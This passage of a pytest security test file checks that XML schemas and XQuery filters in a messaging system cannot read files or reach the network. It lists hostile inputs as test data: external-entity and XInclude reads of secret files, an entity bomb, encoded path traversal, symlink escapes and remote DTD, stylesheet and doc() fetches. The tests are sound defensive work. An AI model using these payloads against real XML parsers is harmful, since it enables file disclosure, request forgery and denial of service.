    "an included DOCTYPE": (xsd('<xs:include schemaLocation="sub/doctype.xsd"/>'), "it has a DOCTYPE"),
    "an import without a place": (xsd('<xs:import namespace="@HTTP@/x.xsd"/>'), ""),
    "an inclusion from the network": (xsd('<xs:include schemaLocation="@HTTP@/x.xsd"/>'), OUTSIDE),
    "a redefinition from the network": (xsd('<xs:redefine schemaLocation="@HTTP@/x.xsd"/>'), OUTSIDE),
    "an override from the network": (xsd('<xs:override schemaLocation="@HTTP@/x.xsd"/>', ASSERTED), OUTSIDE),
    "an import without a scheme": (xsd('<xs:import namespace="u" schemaLocation="//127.0.0.1/x.xsd"/>'), OUTSIDE),
    "an inclusion by FTP": (xsd('<xs:include schemaLocation="ftp://127.0.0.1:1/x.xsd"/>'), OUTSIDE),
    "an inclusion of a file elsewhere": (xsd('<xs:include schemaLocation="@FILE@/secret.xsd"/>'), OUTSIDE),
    "an inclusion by path": (xsd('<xs:include schemaLocation="@PATH@/secret.xsd"/>'), OUTSIDE),
    "an inclusion of a folder above": (xsd('<xs:include schemaLocation="../outside/secret.xsd"/>'), OUTSIDE),
    "an inclusion of a folder above, encoded": (xsd('<xs:include schemaLocation="%2e%2e/outside/secret.xsd"/>'), OUTSIDE),
    "an inclusion by a link": (xsd('<xs:include schemaLocation="sub/link.xsd"/>'), OUTSIDE),
    "an inclusion by a linked folder": (xsd('<xs:include schemaLocation="linked/secret.xsd"/>'), OUTSIDE),
    "an inclusion by an included file": (xsd('<xs:include schemaLocation="sub/next.xsd"/>'), OUTSIDE),
    "an import inside of nothing": (xsd().replace("<xs:sequence>", '<xs:sequence><xs:import schemaLocation="@HTTP@/x"/>'), OUTSIDE),
    "a DOCTYPE": (xsd(front='<!DOCTYPE xs:schema SYSTEM "@HTTP@/x.dtd">'), DOCTYPE),
    "an entity": (xsd("&x;", front='<!DOCTYPE a [<!ENTITY x SYSTEM "@FILE@/secret.xsd">]>'), DOCTYPE),
    "a parameter entity": (xsd(front='<!DOCTYPE a [<!ENTITY % x SYSTEM "@FILE@/secret.dtd"> %x;]>'), DOCTYPE),
    "nested entities": (xsd("&x20;", front=f"<!DOCTYPE a [{bomb(20, 10)}]>"), DOCTYPE),
    "a hint on the schema": (xsd(root=f'{XSI} xsi:schemaLocation="{XS} @HTTP@/XMLSchema.xsd"'), ""),
    "XInclude": (xsd(f'<xi:include {XI} href="@FILE@/secret.xsd"/>'), "include"),
    "XInclude in an annotation": (
        xsd(
            f'<xs:annotation><xs:documentation><xi:include {XI} href="@FILE@/secret.txt" parse="text"/></xs:documentation></xs:annotation>'
        ),
        "",
    ),
    "documentation elsewhere": (xsd('<xs:annotation><xs:documentation source="@HTTP@/doc"/></xs:annotation>'), ""),
    "a notation": (xsd('<xs:notation name="n" public="p" system="@FILE@/secret.txt"/>'), ""),
    "a style sheet": (xsd(front='<?xml-stylesheet type="text/xsl" href="@HTTP@/x.xsl"?>'), ""),
    "an assertion that reads a document": (asserting("doc('@FILE@/secret.xml')"), ""),
    "an assertion that asks the network": (asserting("doc-available('@HTTP@/x.xml') or doc('@HTTP@/x.xml')"), ""),
    "an assertion that reads a text": (asserting("unparsed-text('@FILE@/secret.txt')"), "unparsed-text"),
    "an assertion that reads a collection": (asserting("collection('@FILE@/')"), ""),
    "an assertion about the environment": (asserting("environment-variable('HOME')"), "environment-variable"),
}


@pytest.mark.parametrize("name", SCHEMAS)
def test_a_schema_reads_nothing_outside_of_its_folder(canary: Canary, name: str) -> None:
    text, said = SCHEMAS[name]
    folder = canary.folder.parent / f"events-{name.replace(' ', '-')}"
    (folder / "sub").mkdir(parents=True)
    (folder / "sub" / "link.xsd").symlink_to(canary.folder / "secret.xsd")
    (folder / "linked").symlink_to(canary.folder)
    (folder / "sub" / "doctype.xsd").write_text(f"<!DOCTYPE x>{xsd('')}")
    (folder / "sub" / "next.xsd").write_text(xsd('<xs:include schemaLocation="../../outside/secret.xsd"/>'))
    (folder / "Probe.xsd").write_text(canary.fill(text))
    registry = SchemaRegistry([folder], installed=False)
    sentences = [str(problem) for problem in registry.problems]
    if said:
        assert len(sentences) == 1
        assert said in sentences[0]
        assert "Probe" not in registry.current
    else:
        assert sentences == []
        body = f'<Event xmlns="{EVENTS}"><Probe><V>x</V></Probe></Event>'.encode()
        with contextlib.suppress(ClacksError):  # an assertion that has found nothing
            registry.current.examine(body)
            body = b"<x/>"
        sentences.append(str(registry.current.explain(body)))
        registry.current["Probe"].fields()
        sentences.append(registry.current["Probe"].source)
    assert SECRET not in "".join(sentences)
    assert canary.asked == []
    assert not canary.opened


# --- filters -------------------------------------------------------------------------------------------------------------------------

# Not one of these is native, so the full engine would run what the allow-list lets through.
READERS = (
    "let $f := function($x) {{ {0} }} return $f(1)",
    "for-each(1, function($x) {{ {0} }})",
    "map {{ 'a': {0} }}?a",
    "{0}",
)
READS = (
    "doc('@FILE@/secret.xml')", "doc('@HTTP@/x.xml')", "unparsed-text('@FILE@/secret.txt')", "unparsed-text-lines('@HTTP@/x')",
    "collection('@FILE@/?select=*.xml')", "uri-collection('@FILE@/')", "json-doc('@HTTP@/x')", "doc-available('@HTTP@/x.xml')",
    "transform(map {{ 'stylesheet-location': '@HTTP@/x.xsl' }})", "load-xquery-module('u', map {{ 'location-hints': '@HTTP@/x' }})",
    "parse-xml('<!DOCTYPE a [<!ENTITY x SYSTEM \"@FILE@/secret.txt\">]><a>&amp;x;</a>')",
    "parse-xml('<!DOCTYPE a SYSTEM \"@HTTP@/x.dtd\"><a/>')",
    "parse-xml-fragment('<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"@HTTP@/x.dtd\"><a/>')",
    "parse-xml('<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"@HTTP@/x\"/></a>')",
)  # fmt: skip


@pytest.mark.parametrize("read", READS)
def test_a_filter_reads_nothing(scene: Scene, canary: Canary, read: str) -> None:
    """Refused when it is attached; or let through because it reads nothing but what it is given, and then it gets nothing more."""
    for form in READERS:
        text = canary.fill(form.format(read.replace("{{", "{").replace("}}", "}")))
        refused = ""
        seen: list[Any] = []
        try:
            with AMQPEventConsumer(scene.agent.url(), xquery=f"contains(string({text}), '{SECRET}')", callback=seen.append):
                scene.proxy.sendEvent(leave("filtered"))
                wait_for(lambda: not _waiting(scene), "the sandbox has decided")
        except ClacksError as error:
            refused = str(error)
        if not read.startswith("parse-xml"):
            assert "CLXQ0001" in refused
        assert seen == []
        assert SECRET not in refused + "".join(scene.logged).replace(f"'{SECRET}'", "")
        assert canary.asked == []
        assert not canary.opened


def _waiting(scene: Scene) -> int:
    """Events that are not decided yet, or not delivered."""
    return sum(int(one["waiting"]) for one in scene.proxy.getStatus()["subscriptions"])
